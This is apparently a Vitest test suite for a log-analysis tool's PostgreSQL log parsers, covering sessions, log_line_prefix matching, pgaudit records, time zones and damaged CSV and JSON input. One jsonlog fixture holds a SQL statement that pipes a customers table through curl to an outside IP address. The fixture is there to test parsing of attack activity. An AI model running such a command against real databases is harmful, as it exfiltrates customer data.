import { describe, expect, it } from 'vitest';
import { compilePrefix, matchPrefix, PrefixError } from '../../src/parsers/dbquery/pg-prefix.js';
import { parseAudit } from '../../src/parsers/dbquery/pg-record.js';
import { parseZonedTime } from '../../src/parsers/dbquery/tz-abbrev.js';
import { LocalZone } from '../../src/core/time.js';
import { postgresCsvlog } from '../../src/parsers/postgres-csvlog.js';
import { postgresJsonlog } from '../../src/parsers/postgres-jsonlog.js';
import { postgresLog } from '../../src/parsers/postgres-log.js';
import type { SourceParser } from '../../src/parsers/types.js';
import { compareExpected } from '../helpers/expected.js';
import { runParser, type RunOptions } from '../helpers/run-parser.js';
import { accounted, dbEssentials, expectedPath, fixture, rawMatchesBytes } from './dbquery-helpers.js';

const CASES: [SourceParser, string, RunOptions][] = [
  [postgresLog, 'db-01/postgresql-16-main.log', {}],
  [postgresLog, 'db-02/postgresql.log.2026-03-12-02', {}],
  [postgresLog, 'db-03/postgresql.log', { year: 2026, tz: 'Europe/Berlin' }],
  [postgresCsvlog, 'db-04/postgresql-2026-03-11_230000.csv', { tz: 'Asia/Kolkata' }],
  [postgresJsonlog, 'db-04/postgresql-2026-03-12.json', {}],
  [postgresLog, 'db-04/custom-prefix.log', { extra: { 'pg-prefix': '%t|%c|%u|%d|%r|%a| ' } }],
];

describe('PostgreSQL parsers on the bundled fixtures', () => {
  for (const [parser, name, opts] of CASES) {
    it(`${parser.name} reads ${name} into the reviewed expected events`, async () => {
      const buf = fixture(name);
      const run = await runParser(parser, buf, opts);
      const actual = run.events.map(dbEssentials);
      expect(actual).toEqual(compareExpected(expectedPath(name), actual));
      expect(accounted(run)).toBe(true);
      expect(rawMatchesBytes(buf, run.events)).toEqual([]);
    });
  }
});

describe('postgres_log sessions', () => {
  it('gives each statement the user, client and database of its connection lines', async () => {
    const run = await runParser(postgresLog, [
      '2026-03-11 22:14:09.871 CET [4305] LOG:  connection received: host=203.0.113.77 port=40031',
      '2026-03-11 22:14:09.880 CET [4305] LOG:  connection authorized: user=reporting database=shop',
      '2026-03-11 22:14:09.900 CET [4306] LOG:  connection received: host=10.0.0.2 port=5000',
      '2026-03-11 22:14:09.901 CET [4306] LOG:  connection authorized: user=app database=crm',
      '2026-03-11 22:14:31.660 CET [4305] LOG:  statement: SELECT * FROM customers;',
      '2026-03-11 22:14:31.661 CET [4306] LOG:  statement: SELECT 1;',
      '2026-03-11 22:16:09.750 CET [4305] LOG:  disconnection: session time: 0:02:00.879 user=reporting database=shop host=203.0.113.77 port=40031',
      '2026-03-11 22:16:10.000 CET [4305] LOG:  statement: SELECT 2;',
      '',
    ].join('\n'));
    const q = run.events.filter((e) => e.action === 'db_query');
    expect(q.map((e) => [e.session, e.actor, e.database, e.src_ip, e.src_port])).toEqual([
      ['4305', 'reporting', 'shop', '203.0.113.77', 40031],
      ['4306', 'app', 'crm', '10.0.0.2', 5000],
      // The session ended: a reused pid is not given the old session's user.
      ['4305', null, null, null, null],
    ]);
    expect(q[0]!.attrs!.from_session).toEqual(['actor', 'database', 'src_ip', 'src_port']);
  });

  it('does not let a failed login set the session user', async () => {
    const run = await runParser(postgresLog, [
      '2026-03-11 22:14:05.302 CET [4302] LOG:  connection received: host=203.0.113.77 port=40022',
      '2026-03-11 22:14:05.306 CET [4302] FATAL:  password authentication failed for user "postgres"',
      '',
    ].join('\n'));
    expect(run.events[1]).toMatchObject({ action: 'db_auth_failed', class: 'authentication', outcome: 'failure', actor: 'postgres', src_ip: '203.0.113.77', src_port: 40022 });
  });
});

describe('postgres_log records', () => {
  it('joins TAB-continued lines, DETAIL parameters and ERROR + STATEMENT into one event each', async () => {
    const text = [
      '2021-12-03 07:14:48.594 UTC [4913] user=user1,db=mydb LOG:  duration: 0.215 ms  execute q1: SELECT t.oid FROM pg_catalog.pg_type t',
      '\tWHERE t.typname = $2',
      '2021-12-03 07:14:48.594 UTC [4913] user=user1,db=mydb DETAIL:  parameters: $1 = \'1234\', $2 = \'nj',
      '\thello\'',
      '2021-12-03 07:14:49.000 UTC [4913] user=user1,db=mydb ERROR:  relation "x" does not exist at character 15',
      '2021-12-03 07:14:49.000 UTC [4913] user=user1,db=mydb STATEMENT:  SELECT * FROM x',
      '',
    ].join('\n');
    const run = await runParser(postgresLog, text);
    expect(run.events).toHaveLength(2);
    expect(run.events[0]).toMatchObject({ action: 'db_query', outcome: 'success', command: 'SELECT t.oid FROM pg_catalog.pg_type t\nWHERE t.typname = $2' });
    expect(run.events[0]!.attrs).toMatchObject({ prepared: 'q1', duration_ms: 0.215, parameters: "$1 = '1234', $2 = 'nj\nhello'" });
    expect(run.events[1]).toMatchObject({ action: 'db_error', outcome: 'failure', command: 'SELECT * FROM x', target: 'public.x' });
    expect(run.events[1]!.attrs).toMatchObject({ error: 'relation "x" does not exist at character 15' });
    expect(run.dispositions).toMatchObject({ record: 2, continuation: 4 });
  });

  it('reads pgaudit AUDIT lines: class, command, object and statement', async () => {
    const run = await runParser(postgresLog, [
      '2026-03-11 22:16:02.231 CET [4305] app@shop LOG:  AUDIT: OBJECT,3,1,READ,SELECT,TABLE,public.account,"SELECT password,',
      '\t       description',
      '\t  FROM account",<not logged>',
      '',
    ].join('\n'));
    expect(run.events).toHaveLength(1);
    const e = run.events[0]!;
    expect(e).toMatchObject({ action: 'db_audit', actor: 'app', target: 'public.account', command: 'SELECT password,\n       description\n  FROM account' });
    expect(e.attrs!.audit).toEqual({ type: 'OBJECT', statement_id: 3, substatement_id: 1, class: 'READ', command: 'SELECT', object_type: 'TABLE', object_name: 'public.account', parameter: '<not logged>' });
    expect((e.attrs!.sql as { tables_read: string[] }).tables_read).toEqual(['public.account']);
  });

  it('unwraps syslog lines: [N-M] parts, #011 continuations and other programs kept as they are', async () => {
    const run = await runParser(postgresLog, fixture('db-03/postgresql.log'), { year: 2026 });
    expect(run.events.map((e) => e.action)).toEqual(['db_log', 'db_connection_received', 'db_connect', 'db_query', 'other', 'db_query', 'db_disconnect']);
    expect(run.events[3]).toMatchObject({ host: 'db-03', command: 'SELECT i.id, i.total\nFROM invoices i\nWHERE i.customer_id = 17;', time_quality: 'zone_assumed' });
    const chunked = await runParser(postgresLog, 'Mar 12 09:30:05 db postgres[7]: [5-1] user=a,db=b,app=c,client=d LOG:  statement: SELECT aaa\nMar 12 09:30:05 db postgres[7]: [5-2] bbb FROM t\n', { year: 2026 });
    expect(chunked.events[0]!.command).toBe('SELECT aaabbb FROM t');
  });

  it('reads Heroku logplex lines', async () => {
    const run = await runParser(postgresLog, '2019-03-14T00:22:56+00:00 app[postgres.4882]: [GREEN] [15-1]  sql_error_code = 00000 LOG:  statement: SELECT 1\n');
    expect(run.events[0]).toMatchObject({ action: 'db_query', session: '4882', time_quality: 'exact', command: 'SELECT 1' });
    expect(run.events[0]!.attrs).toMatchObject({ heroku_database: 'GREEN' });
  });

  it('never takes a statement for a prefix: text after the severity cannot re-shape user or database', async () => {
    const run = await runParser(postgresLog, "2026-03-11 22:14:31.660 CET [4305] LOG:  statement: SELECT 'evil@x LOG:  y'\n");
    expect(run.events[0]).toMatchObject({ actor: null, database: null, command: "SELECT 'evil@x LOG:  y'" });
  });
});

describe('log_line_prefix', () => {
  const line = (prefix: string, text: string) => matchPrefix(text, compilePrefix(prefix));

  it('builds a matcher from the server setting, as pgbadger --prefix does', () => {
    expect(line('%t [%p]: [%l-1] user=%u,db=%d,app=%a,client=%h ', '2017-09-06 08:41:42 UTC [36]: [253-1] user=postgres,db=postgres,app=pgbench,client=172.23.0.1 LOG:  duration: 0.168 ms')).toMatchObject({
      fields: { time: '2017-09-06 08:41:42 UTC', pid: '36', lineNum: '253', user: 'postgres', database: 'postgres', app: 'pgbench', host: '172.23.0.1' },
      severity: 'LOG',
      message: 'duration: 0.168 ms',
    });
    expect(line('%t:%r:%u@%d:[%p]:', '2019-03-10 03:54:59 UTC:10.0.0.123(52834):postgres@tstdb:[20175]:ERROR: column "wrong" does not exist')?.fields).toMatchObject({ remote: '10.0.0.123(52834)', user: 'postgres', database: 'tstdb', pid: '20175' });
    // %q: what follows is written by session processes only.
    expect(line('%m [%p] %q%u@%d ', '2017-07-31 13:36:42.585 CEST [4974] LOG:  database system was shut down')?.fields).toEqual({ time: '2017-07-31 13:36:42.585 CEST', pid: '4974' });
    expect(line('%m %c %x %v %e %Q %b ', '2024-01-01 00:00:00.000 UTC 65f0a1c0.1f40 0 3/1 00000 -42 client backend LOG:  x')?.fields).toMatchObject({ sessionId: '65f0a1c0.1f40', xid: '0', vxid: '3/1', sqlstate: '00000', queryId: '-42', backendType: 'client backend' });
  });

  it('rejects an unknown escape with the list of valid ones', () => {
    expect(() => compilePrefix('%m %Z ')).toThrow(PrefixError);
    expect(() => compilePrefix('%m %Z ')).toThrow(/%Z.*PostgreSQL knows/);
  });

  it('warns with the line number and a hint for lines whose prefix is unknown, and keeps them', async () => {
    const run = await runParser(postgresLog, fixture('db-04/custom-prefix.log'));
    expect(run.events).toHaveLength(2);
    expect(run.events[1]).toMatchObject({ action: 'db_query', actor: null, command: 'SELECT * FROM users' });
    expect(run.warnings.map((w) => w.line)).toEqual([1, 2]);
    expect(run.warnings[0]!.reason).toMatch(/-O pg-prefix=/);
    expect(run.events[0]!.attrs!.prefix_unparsed).toBe('|65f0a1c0.1f40|app|shop|10.0.0.9(51000)|shop-api|');
  });

  it('says when -O pg-prefix is not a valid prefix and falls back to the known ones', async () => {
    const run = await runParser(postgresLog, '2026-03-11 22:14:31.660 CET [4305] LOG:  statement: SELECT 1\n', { extra: { 'pg-prefix': '%m %y' } });
    expect(run.events).toHaveLength(1);
    expect(run.warnings[0]!.reason).toMatch(/-O pg-prefix ignored: unknown escape %y/);
  });
});

describe('time zone abbreviations', () => {
  const berlin = new LocalZone('Europe/Berlin');
  it('maps unambiguous abbreviations and numeric zones exactly', () => {
    expect(parseZonedTime('2026-07-01 12:00:00.000 CEST', berlin)).toMatchObject({ us: Date.UTC(2026, 6, 1, 10) * 1000, quality: 'exact' });
    expect(parseZonedTime('2026-07-01 12:00:00 AEST', berlin)).toMatchObject({ us: Date.UTC(2026, 6, 1, 2) * 1000, quality: 'exact' });
    expect(parseZonedTime('2026-07-01 12:00:00 +03', berlin)).toMatchObject({ us: Date.UTC(2026, 6, 1, 9) * 1000, quality: 'exact' });
    expect(parseZonedTime('2026-07-01 12:00:00 -0430', berlin)).toMatchObject({ us: Date.UTC(2026, 6, 1, 16, 30) * 1000, quality: 'exact' });
  });

  it('applies --tz to ambiguous or unknown abbreviations and says why', () => {
    const ist = parseZonedTime('2026-07-01 12:00:00 IST', new LocalZone('Asia/Kolkata'))!;
    expect(ist).toMatchObject({ us: Date.UTC(2026, 6, 1, 6, 30) * 1000, quality: 'zone_assumed', zone: 'IST' });
    expect(ist.zoneNote).toMatch(/IST is ambiguous/);
    expect(parseZonedTime('2026-07-01 12:00:00 XYZT', berlin)!.zoneNote).toMatch(/unknown zone abbreviation XYZT/);
  });

  it('warns once per file per ambiguous abbreviation and marks each event', async () => {
    const run = await runParser(postgresLog, '2026-07-01 12:00:00.000 IST [1] LOG:  a\n2026-07-01 12:00:01.000 IST [1] LOG:  b\n', { tz: 'Europe/Dublin' });
    expect(run.events.map((e) => [e.time_quality, new Date(e.ts / 1000).toISOString()])).toEqual([
      ['zone_assumed', '2026-07-01T11:00:00.000Z'],
      ['zone_assumed', '2026-07-01T11:00:01.000Z'],
    ]);
    expect(run.warnings).toHaveLength(1);
  });
});

describe('pgaudit payload', () => {
  it('reads the CSV fields, quoted statements and the optional rows field', () => {
    expect(parseAudit('SESSION,1,1,READ,SELECT,,,SELECT 1,<not logged>')).toEqual({ type: 'SESSION', statement_id: 1, substatement_id: 1, class: 'READ', command: 'SELECT', object_type: '', object_name: '', statement: 'SELECT 1', parameter: '<not logged>' });
    expect(parseAudit('SESSION,2,1,ROLE,ALTER ROLE,,,"ALTER ROLE u SET x = \'a, b\'",<none>,4')).toMatchObject({ statement: "ALTER ROLE u SET x = 'a, b'", rows: 4 });
    expect(parseAudit('SESSION,2,1,ROLE,ALTER ROLE,,,"ALTER ROLE u')).toMatchObject({ statement: 'ALTER ROLE u', truncated: true });
  });
});

describe('postgres_csvlog bad input', () => {
  const HEAD = '2026-03-11 23:05:40.500 CET,"app","shop",6140,"10.0.2.15:51990",65ef7f24.17fc,9,"SELECT",2026-03-11 23:05:24 CET,7/88,0,LOG,00000,';
  const TAIL = ',,,,,,,,,"psql","client backend",,0';

  it('keeps a record whose quoted field never closes at end of file, with a warning', async () => {
    const text = `${HEAD}"statement: SELECT 1"${TAIL}\n${HEAD}"statement: SELECT 'unterminated\nFROM t`;
    const run = await runParser(postgresCsvlog, text);
    expect(run.events.map((e) => e.command)).toEqual(['SELECT 1', "SELECT 'unterminated\nFROM t"]);
    expect(run.events[1]!.attrs).toMatchObject({ damaged: true });
    expect(run.warnings[0]).toMatchObject({ line: 2, reason: expect.stringMatching(/unterminated quoted field: the file ends inside a quoted field/) });
    expect(accounted(run)).toBe(true);
  });

  it('does not let a stray quote swallow the records after it', async () => {
    const text = `${HEAD}"statement: SELECT "" broken${TAIL}\n${HEAD}"statement: SELECT 2"${TAIL}\n${HEAD}"statement: SELECT 3"${TAIL}\n`;
    const run = await runParser(postgresCsvlog, text);
    expect(run.events.map((e) => e.line)).toEqual([1, 2, 3]);
    expect(run.events.slice(1).map((e) => e.command)).toEqual(['SELECT 2', 'SELECT 3']);
    expect(run.warnings[0]!.reason).toMatch(/lines from 2 read again/);
  });

  it('reads a 1 MB statement and a statement with non-UTF-8 bytes', async () => {
    let big = 'INSERT INTO blobs VALUES (';
    for (let i = 0; big.length < 1_000_000; i++) big += `'row${i}',`;
    big += "'end')";
    const bytes = Buffer.concat([Buffer.from(`${HEAD}"statement: ${big}"${TAIL}\n${HEAD}"statement: SELECT * FROM t WHERE name = '`), Buffer.from([0xff, 0xfe, 0x41]), Buffer.from(`'"${TAIL}\n`)]);
    const run = await runParser(postgresCsvlog, bytes);
    expect(run.events).toHaveLength(2);
    expect(run.events[0]!.command).toBe(big);
    expect(run.events[0]!.attrs!.sql).toMatchObject({ type: 'insert', tables_written: ['public.blobs'], parser: 'tokens' });
    expect(run.events[0]!.summary.length).toBeLessThan(400);
    expect(run.events[1]!.command).toContain('\uFFFD');
    expect(run.events[1]!.target).toBe('public.t');
    expect(run.warnings).toEqual([]);
  });

  it('closes a record at a line cut over 1 MiB, with a warning, and reads on', async () => {
    const huge = 'x'.repeat(1_200_000);
    const run = await runParser(postgresCsvlog, `${HEAD}"statement: SELECT '${huge}"${TAIL}\n${HEAD}"statement: SELECT 2"${TAIL}\n`);
    expect(run.events.map((e) => e.line)).toEqual([1, 2]);
    expect(run.events[1]!.command).toBe('SELECT 2');
    expect(run.warnings[0]!.reason).toMatch(/was cut for parsing/);
  });
});

describe('postgres_jsonlog', () => {
  it('reads CloudNativePG instance-manager lines as other events and rejects unknown JSON with a warning', async () => {
    const run = await runParser(postgresJsonlog, '{"level":"info","ts":1669574894.5789738,"msg":"Setting 0755 permissions","logging_pod":"pg-1"}\n{"foo":1}\nnot json\n');
    expect(run.events).toHaveLength(1);
    expect(run.events[0]).toMatchObject({ action: 'other', host: 'pg-1', time_quality: 'exact' });
    expect(run.warnings.map((w) => w.line)).toEqual([2, 3]);
  });

  it('reads jsonlog records of PostgreSQL 15–17 and goes on past a damaged line, naming its line and byte offset', async () => {
    // Keys as elog.c's write_jsonlog writes them (PostgreSQL 15+); empty fields are left out.
    const pg15 = '{"timestamp":"2026-01-02 02:30:00.120 UTC","user":"app","dbname":"shop","pid":4711,"remote_host":"203.0.113.77","remote_port":40210,"session_id":"6957a1b6.1267","line_num":2,"ps":"SELECT","session_start":"2026-01-02 02:29:58 UTC","vxid":"3/41","txid":0,"error_severity":"LOG","message":"statement: SELECT * FROM customers","application_name":"psql","backend_type":"client backend","query_id":-2837401736200475134}';
    const pg17 = '{"timestamp":"2026-01-02 02:30:05.004 UTC","user":"app","dbname":"shop","pid":4711,"remote_host":"203.0.113.77","remote_port":40210,"session_id":"6957a1b6.1267","line_num":3,"ps":"COPY","session_start":"2026-01-02 02:29:58 UTC","vxid":"3/42","txid":0,"error_severity":"ERROR","state_code":"42501","message":"permission denied for function pg_read_file","statement":"COPY customers TO PROGRAM \'curl -T - http://198.51.100.7/x\'","func_name":"aclcheck_error","file_name":"aclchk.c","file_line_num":2843,"application_name":"psql","backend_type":"client backend","leader_pid":null,"query_id":5540021877743123005}';
    const text = `${pg15}\n${pg15.slice(0, 70)}\n${pg17}\n`;
    const run = await runParser(postgresJsonlog, text);
    expect(run.events.map((e) => [e.action, e.actor, e.database, e.src_ip, e.src_port, e.outcome])).toEqual([
      ['db_query', 'app', 'shop', '203.0.113.77', 40210, 'unknown'],
      ['db_error', 'app', 'shop', '203.0.113.77', 40210, 'failure'],
    ]);
    expect(run.warnings).toEqual([expect.objectContaining({ line: 2, byte_offset: pg15.length + 1, reason: expect.stringMatching(/^invalid JSON/) })]);
    expect(postgresJsonlog.sniff({ name: 'x.json', path: 'x.json', text, lines: text.split('\n') })?.confidence).toBe(95);
  });
});
